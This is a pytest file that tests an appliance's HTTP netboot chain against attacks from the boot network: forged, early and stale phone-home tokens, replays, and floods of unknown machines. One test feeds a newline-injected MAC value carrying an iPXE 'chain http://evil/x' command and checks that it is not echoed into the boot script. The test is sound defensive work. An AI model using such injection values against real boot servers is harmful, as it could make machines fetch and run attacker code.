"""Attacks from the boot network on the HTTP boot chain, against the real routes served over
loopback: each asserts the attack fails and the known machine (lab-01) is still served.

Phone-home tokens are per host, stage and arming; only the next stage moves a host on; a
replay is idempotent; unknown machines are journaled as digests, not one event each.
"""

from __future__ import annotations

import random
from collections.abc import AsyncIterator

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer

from appliance.netboot.boot_http import BootState, add_boot_routes

LAB01_MAC = "52:54:00:18:00:11"


class Rig:
    def __init__(self, client: TestClient, state: BootState, records: dict[str, dict]) -> None:
        self.client = client
        self.state = state
        self.records = records
        self.events: list[tuple[str, dict]] = []

    def token(self, stage: int) -> str:
        assert self.state.table is not None
        return self.state.table.token("lab-01", stage, self.state.progress.arming("lab-01"))

    async def phone_home(self, stage: int, token: str) -> int:
        async with self.client.post(f"/phone-home/lab-01/{stage}/{token}") as resp:
            return resp.status

    async def served_stage(self) -> str:
        async with self.client.get(f"/ipxe?mac={LAB01_MAC}") as resp:
            assert resp.status == 200
            return (await resp.text()).splitlines()[1]

    def kinds(self) -> list[str]:
        """What was journaled, less the evidence of each script served."""
        return [k for k, _ in self.events if k != "stage-booting"]


@pytest.fixture
async def rig(lab_boot: tuple[BootState, dict]) -> AsyncIterator[Rig]:
    state, records = lab_boot
    app = web.Application()
    add_boot_routes(app, state)
    client = TestClient(TestServer(app, host="127.0.0.1"))
    await client.start_server()
    r = Rig(client, state, records)
    state.on_event = lambda kind, **fields: r.events.append((kind, fields))
    try:
        yield r
    finally:
        await client.close()


def armed(seq: int, done: int = 0) -> dict:
    return {"name": "lab-01", "revision": "1" * 40, "stages": 2, "done": done,
            "stage": done + 1, "state": "booting", "armed_seq": seq}


async def test_an_early_phone_home_is_refused_and_journaled(rig: Rig) -> None:
    rig.records["lab-01"] = armed(7)
    assert "stage 1/2" in await rig.served_stage()
    # stage 2's token reports nothing before stage 1 is done: the install is not skipped
    assert await rig.phone_home(2, rig.token(2)) == 409
    assert rig.kinds() == ["phone-home-refused"]
    assert "stage 1/2" in await rig.served_stage()
    # stage 1's token is not stage 2's, and a made-up one is nothing
    assert await rig.phone_home(2, rig.token(1)) == 403
    assert await rig.phone_home(1, "0" * 32) == 403
    assert "stage 1/2" in await rig.served_stage()
    # the unauthenticated config of stage 2 (and its token) is not served before its turn
    async with rig.client.get("/boot/lab-01/2/config") as resp:
        assert resp.status == 404
    async with rig.client.get("/boot/lab-01/1/config") as resp:
        config = await resp.text()
    assert rig.token(1) in config and rig.token(2) not in config
    assert await rig.phone_home(1, rig.token(1)) == 200
    assert "stage 2/2" in await rig.served_stage()


async def test_a_replayed_phone_home_is_idempotent(rig: Rig) -> None:
    rig.records["lab-01"] = armed(7)
    assert await rig.phone_home(1, rig.token(1)) == 200
    for _ in range(5):
        async with rig.client.post(f"/phone-home/lab-01/1/{rig.token(1)}") as resp:
            assert resp.status == 200 and (await resp.json())["replay"] is True
    assert rig.kinds().count("stage-done") == 1
    assert "stage 2/2" in await rig.served_stage()


async def test_a_token_of_an_earlier_arming_is_refused(rig: Rig) -> None:
    rig.records["lab-01"] = armed(7)
    old = rig.token(1)
    rig.records["lab-01"] = armed(9)  # re-armed for a reinstall
    assert await rig.phone_home(1, old) == 403
    assert "stage 1/2" in await rig.served_stage()
    assert await rig.phone_home(1, rig.token(1)) == 200
    stage_done = [f for k, f in rig.events if k == "stage-done"]
    assert stage_done[0]["arming"] == "armed:9"


async def test_an_unknown_machine_storm_leaves_the_journal_to_real_events(rig: Rig) -> None:
    rng = random.Random(11)
    for _ in range(3000):
        mac = ":".join(f"{rng.randrange(256):02x}" for _ in range(6))
        async with rig.client.get(f"/ipxe?mac={mac}") as resp:
            assert resp.status == 200 and "is not declared" in await resp.text()
    # an injection attempt through the query is not echoed into the script
    async with rig.client.get("/ipxe", params={"mac": "x\nchain http://evil/x"}) as resp:
        text = await resp.text()
    assert "evil" not in text and "(no valid MAC given)" in text
    rig.state.digest.flush()
    assert rig.kinds() == ["unknown-machine", "unknown-machine-digest"]
    digest = next(f for k, f in rig.events if k == "unknown-machine-digest")
    assert digest["count"] == 3001 and digest["distinct"] >= 2900
    # a real event still lands, and the known machine is served
    assert "stage 1/2" in await rig.served_stage()
    assert await rig.phone_home(1, rig.token(1)) == 200
    assert rig.kinds()[-1] == "stage-done"
